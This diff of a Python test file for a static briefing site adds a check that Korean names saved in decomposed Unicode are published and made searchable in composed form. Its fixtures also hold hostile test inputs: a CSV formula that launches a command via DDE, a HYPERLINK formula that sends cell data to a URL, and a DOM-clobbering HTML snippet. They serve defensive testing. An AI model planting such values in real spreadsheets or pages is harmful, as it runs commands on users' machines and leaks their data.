@@ -12,6 +12,7 @@ import csv
 import io
 import json
 import re
+import unicodedata
 from html.parser import HTMLParser
 from pathlib import Path
 
@@ -24,6 +25,7 @@ PROJECT = "turkistan-highway"
 MARKDOWN_NAME = "Turkistan [official site](https://example.org) ![p](https://example.org/p.png) { #__config } *x* `y` #"
 FORMULA_SUMMARY = '=HYPERLINK("https://example.org/?"&A1,"Details")'
 FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
+NFC_NAME = "파블로다르 합금철 플랜트"
 CLOBBER = '<div id="__config" hidden>{"base": "https://example.org", "search": "https://example.org/s.js"}</div>'
 
 
@@ -40,6 +42,8 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Paths:
     assert summary in text, "update the fixture: the project's summary changed"
     text = text.replace(summary, f"en: {json.dumps(FORMULA_SUMMARY)} #", 1)
     text = text.replace("en: Pavlodar ferroalloy plant}", f"en: {json.dumps(FORMULA_NAME)}}}", 1)
+    assert f"ko: {NFC_NAME}," in text, "update the fixture: the project's Korean name changed"
+    text = text.replace(f"ko: {NFC_NAME},", f"ko: {unicodedata.normalize('NFD', NFC_NAME)},", 1)  # as a macOS editor may save it
     projects.write_text(text, encoding="utf-8")
     with (root / "content" / "en" / "about.md").open("a", encoding="utf-8") as about:
         about.write(f"\n{CLOBBER}\n")
@@ -169,3 +173,14 @@ def test_a_csv_cell_is_neutralised_only_where_it_would_be_a_formula(key: str, va
     from briefing.opendata import csv_cell
 
     assert csv_cell(key, value) == written
+
+
+def test_text_saved_decomposed_is_published_composed(hostile: Paths) -> None:
+    """Korean in NFD (jamo) is read as NFC: the page shows, and search finds, the composed name."""
+    page = parse(hostile.site_dir / "ko" / "projects" / "pavlodar-ferroalloy-plant" / "index.html")
+    assert [squeeze(t) for t in page.texts["h1"]] == [NFC_NAME]
+    index = (hostile.site_dir / "ko" / "search" / "search_index.json").read_text(encoding="utf-8")
+    assert NFC_NAME in index
+    jamo = re.compile("[\u1100-\u11ff]")
+    for path in [*hostile.site_dir.joinpath("ko").rglob("*.html"), *hostile.site_dir.joinpath("ko").rglob("*.json"), *hostile.site_dir.joinpath("ko").rglob("*.csv")]:
+        assert not jamo.search(path.read_text(encoding="utf-8-sig")), path
